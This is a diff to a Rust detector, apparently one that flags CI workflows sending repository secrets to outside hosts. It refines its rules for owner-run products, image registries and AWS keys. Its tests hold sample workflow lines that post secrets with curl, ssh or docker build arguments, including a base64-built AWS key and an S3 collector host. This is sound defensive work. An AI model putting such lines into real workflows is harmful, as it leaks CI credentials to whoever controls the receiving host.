@@ -17,7 +17,7 @@ use std::collections::BTreeSet;
 use crate::flow::command::REMOTE_CODE;
 use crate::flow::trace::{Channel, Delivery, Role};
 use crate::flow::value::{Carried, Source};
-use crate::login::{is_login_address, is_login_only, is_own_registry};
+use crate::login::{is_login_address, is_login_only, is_own_product, is_own_registry};
 use crate::report::Class;
 use crate::signal::Signal;
 use crate::technique::{
@@ -173,7 +173,7 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         delivery.role == Role::Authentication
             || delivery.role == Role::Address && is_login_address(place, &names)
     });
-    let login_host = only_logs_in.then_some(host);
+    let login_host = (only_logs_in || is_own_product(&names, host)).then_some(host);
     if one_login(&names)
         && names.iter().all(|name| matches!(stem(name).as_str(), "" | "CLIENT" | "OAUTH" | "APP"))
     {
@@ -232,7 +232,8 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         .iter()
         .any(|name| is_key_of_machines(name) || is_used_in_place(name) || loot(name) || of_database(name))
         || by_http && names.iter().any(|name| logs_in_to_machines(name));
-    if unrelated(&names, None, login_host) && !own_registry
+    let for_own_image = goes_into_own_image(evidence, &group);
+    if unrelated(&names, None, login_host) && !own_registry && !for_own_image
         || keys_sent && !shipped
         || !settings && several_purposes(&names)
         || (job_token && !names.is_empty())
@@ -260,8 +261,9 @@ fn holds_login_of(evidence: &Evidence<'_>, group: &[usize], service: &crate::ser
     let own = |of: Option<&crate::services::Service>| of.is_some_and(|of| of.name == service.name);
     jobs.iter().filter_map(|job| evidence.workflow.jobs.get(*job)).any(|job| {
         let texts = evidence.texts_of(job);
-        // A key that stands in the file (AWS documents these beginnings of its key ids) is not the repository's secret.
-        if texts.iter().any(|text| text.contains("AKIA") || text.contains("ASIA")) {
+        // A key that is none of the repository's secrets is somebody else's, whatever else the job names: one that stands in the
+        // file (AWS documents these beginnings of its key ids), or that is put together while it runs.
+        if texts.iter().any(|text| text.contains("AKIA") || text.contains("ASIA") || sets_foreign_key(text)) {
             return false;
         }
         let named = texts.iter().flat_map(|text| crate::analysis::names_in(text));
@@ -281,8 +283,62 @@ fn holds_login_of(evidence: &Evidence<'_>, group: &[usize], service: &crate::ser
                 own(crate::services::of_action(&uses.split('@').next().unwrap_or("").to_ascii_lowercase()))
             })
             || named.into_iter().any(|name| own(crate::services::of_secret(&name)))
-            || texts.iter().any(|text| text.contains(&format!("{}_", service.name.to_ascii_uppercase())))
+            || is_handed_login(evidence, job, &service.name, group)
     })
+}
+
+/// Whether a variable that is called after a service gets a secret whose own name says nothing, and that is not among what is sent:
+/// `AWS_ACCESS_KEY_ID: ${{ secrets.DEPLOY_KEY_ID }}`.
+fn is_handed_login(
+    evidence: &Evidence<'_>,
+    job: &crate::workflow::Job,
+    service: &str,
+    group: &[usize],
+) -> bool {
+    let sent = named_secrets(&evidence.carried(group));
+    let prefix = format!("{}_", service.to_ascii_uppercase());
+    let entries = evidence.workflow.env.iter().chain(&job.env);
+    let entries = entries.chain(job.steps.iter().flat_map(|step| step.env.iter().chain(&step.with)));
+    entries.filter(|entry| entry.name.to_ascii_uppercase().replace('-', "_").starts_with(&prefix)).any(
+        |entry| {
+            let names = entry.node.text().map(crate::analysis::names_in).unwrap_or_default();
+            names.iter().any(|name| !sent.contains(name) && crate::services::of_secret(name).is_none())
+        },
+    )
+}
+
+/// Whether a script sets a key of AWS to something that is neither a secret nor an input.
+fn sets_foreign_key(text: &str) -> bool {
+    const KEYS: &[&str] = &["aws_access_key_id", "aws_secret_access_key"];
+    text.lines().any(|line| {
+        let lower = line.to_ascii_lowercase();
+        KEYS.iter().filter_map(|key| lower.split_once(key)).any(|(_, rest)| {
+            let set = rest.strip_prefix(['=', ' ']).or_else(|| rest.strip_prefix(" = ")).unwrap_or("");
+            let value = set.trim_start_matches([' ', '=', '"', '\'']);
+            let own = value.starts_with("${{") || value.starts_with('$') && !value.starts_with("$(");
+            !value.is_empty() && !own && !value.starts_with(['-', '|', '}', ')', ']', '&'])
+        })
+    })
+}
+
+/// Whether one secret is built into an image, and the image goes to a registry that the job logs in to with another secret of its
+/// own, which opens nothing else that is known: a token for packages that the build fetches. It stays in the image's history, so
+/// somebody should look. More than one kind of them is no build's need, and a thief's registry asks for no login of the owner's.
+fn goes_into_own_image(evidence: &Evidence<'_>, group: &[usize]) -> bool {
+    let deliveries = || group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
+    let images =
+        deliveries().all(|delivery| matches!(delivery.client.as_str(), "docker login" | "docker push"));
+    let logins: Vec<&Carried> = deliveries()
+        .filter(|delivery| delivery.role == Role::Authentication)
+        .flat_map(|delivery| &delivery.carried)
+        .collect();
+    let logins = named_secrets(&logins);
+    let built = payload_names(evidence, group);
+    images
+        && !logins.is_empty()
+        && logins.is_disjoint(&built)
+        && logins.iter().all(|name| crate::services::of_secret(name).is_none_or(|of| of.anywhere))
+        && built.len() == 1
 }
 
 /// A private key or a cluster's configuration: it is used where the job runs, and no service takes it as a message.
@@ -582,6 +638,80 @@ mod tests {
         check("secret-to-host", &steps(""), Verdict::Malicious, names, places);
     }
 
+    /// Near miss: the key goes by a variable, or the machine that runs the job is the owner's.
+    #[test]
+    fn a_key_that_is_not_called_so() {
+        let (names, places) = (&["NPM_TOKEN"], &["ci.widgets.example"]);
+        let text = |machine: &str, env: &str, key: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: {machine}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{{env}}}\n        run: |\n          {key}\n          ssh deploy@ci.widgets.example 'NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}} npm ci'\n"
+            )
+        };
+        let other = "K: '${{ secrets.PRODUCTION }}'";
+        let own = text("ubuntu-latest", other, "install -m 600 /dev/null ~/.ssh/x; echo \"$K\" > ~/.ssh/x");
+        check("secret-to-host", &own, Verdict::Suspicious, names, places);
+        let machine = text("self-hosted", "A: b", "true");
+        check("secret-to-host", &machine, Verdict::Suspicious, names, places);
+        // Evasion: the key is a literal, or the very secret that is sent.
+        for (env, key) in [
+            (other, "echo 'KEY OF THE FILE' > ~/.ssh/x"),
+            ("K: '${{ secrets.NPM_TOKEN }}'", "echo \"$K\" > ~/.ssh/x"),
+        ] {
+            check("secret-to-host", &text("ubuntu-latest", env, key), Verdict::Malicious, names, places);
+        }
+    }
+
+    /// Near miss: a product of the owner's own that takes its credential in a form, and what nobody can register.
+    #[test]
+    fn a_product_at_a_host_of_its_name() {
+        sent(
+            "curl -X POST https://portainer.widgets.example/api/auth -d '{\"Username\":\"ci\",\"Password\":\"${{ secrets.PORTAINER_PASSWORD }}\"}'",
+            Verdict::Exposed,
+            &["PORTAINER_PASSWORD"],
+            "portainer.widgets.example",
+        );
+        // Evasion: more than its own goes there, or the host is called otherwise.
+        sent(
+            "curl https://portainer.widgets.example/api/auth -d '${{ secrets.PORTAINER_PASSWORD }}${{ secrets.NPM_TOKEN }}'",
+            Verdict::Malicious,
+            &["NPM_TOKEN", "PORTAINER_PASSWORD"],
+            "portainer.widgets.example",
+        );
+        sent(
+            "curl https://port.widgets.example/api/auth -d '${{ secrets.PORTAINER_PASSWORD }}'",
+            Verdict::Malicious,
+            &["PORTAINER_PASSWORD"],
+            "port.widgets.example",
+        );
+    }
+
+    /// Near miss: a token that the build of an image needs, and the owner's own registry.
+    #[test]
+    fn an_image_for_a_registry_that_is_logged_in_to() {
+        let text = |login: &str, more: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: {login}\n      - run: |\n          docker build --build-arg NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}} {more} -t images.widgets.example/a .\n          docker push images.widgets.example/a\n"
+            )
+        };
+        let own = "docker login -u ci -p ${{ secrets.IMAGES_PASSWORD }} images.widgets.example";
+        let places = &["images.widgets.example"];
+        check(
+            "secret-to-host",
+            &text(own, ""),
+            Verdict::Suspicious,
+            &["IMAGES_PASSWORD", "NPM_TOKEN"],
+            places,
+        );
+        // Evasion: a login of the thief's own, a login that is loot itself, more than one credential.
+        let literal = "docker login -u ci -p literal images.widgets.example";
+        check("secret-to-host", &text(literal, ""), Verdict::Malicious, &["NPM_TOKEN"], places);
+        let loot = "docker login -u ci -p ${{ secrets.PYPI_TOKEN }} images.widgets.example";
+        check("secret-to-host", &text(loot, ""), Verdict::Malicious, &["NPM_TOKEN", "PYPI_TOKEN"], places);
+        let more = "--build-arg A=${{ secrets.GH_PAT }}";
+        let names = &["GH_PAT", "IMAGES_PASSWORD", "NPM_TOKEN"];
+        check("secret-to-host", &text(own, more), Verdict::Malicious, names, places);
+    }
+
     /// Near miss: a door of the owner's own hosts that somebody else keeps.
     #[test]
     fn a_gate_before_an_own_host() {
@@ -609,11 +739,21 @@ mod tests {
         };
         let (names, places) = (&["GH_PAT", "NPM_TOKEN"], &["collector.s3.amazonaws.com"]);
         check("secret-to-host", &text(""), Verdict::Malicious, names, places);
-        let literal = "      - run: aws configure set aws_access_key_id AKIAEXAMPLEEXAMPLE00\n";
-        check("secret-to-host", &text(literal), Verdict::Malicious, names, places);
+        for own in [
+            "      - run: aws configure set aws_access_key_id AKIAEXAMPLEEXAMPLE00\n",
+            // Evasion: a key that is put together, and the name of the service where it means nothing.
+            "      - run: export AWS_ACCESS_KEY_ID=$(echo QUJD | base64 -d)\n        env: {AWS_KEY: '${{ secrets.OTHER }}'}\n",
+            "      - run: echo AWS_REGION\n        env: {AWS_REGION: eu-west-1}\n",
+            "      - run: 'true'\n        env: {AWS_ACCESS_KEY_ID: '${{ secrets.NPM_TOKEN }}'}\n",
+        ] {
+            check("secret-to-host", &text(own), Verdict::Malicious, names, places);
+        }
         // Near miss: the job logs in with what is the repository's own.
         let login = "      - uses: aws-actions/configure-aws-credentials@v4\n        with: {role-to-assume: x, aws-region: y}\n";
         check("secret-to-host", &text(login), Verdict::Suspicious, names, places);
+        let handed =
+            "      - run: 'true'\n        env: {AWS_ACCESS_KEY_ID: '${{ secrets.BUCKET_KEY_ID }}'}\n";
+        check("secret-to-host", &text(handed), Verdict::Suspicious, names, places);
     }
 
     /// Near miss: databases of the owner's own are logged in to by hosts that nobody else knows.
@@ -638,6 +778,7 @@ mod tests {
         for call in [
             "curl -H \"apikey: ${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}\" https://abcdef.supabase.co/rest/v1/runs",
             "curl -H \"Authorization: ${{ secrets.DEPLOY }}\" http://10.1.2.3:8080/deploy",
+            "curl -H \"Authorization: ${{ secrets.DEPLOY }}\" http://web-1:8080/deploy",
             "curl -H \"Authorization: ${{ secrets.WIDGETS_PAT }}\" https://api.widgets.io/deploy",
         ] {
             silent(&format!(
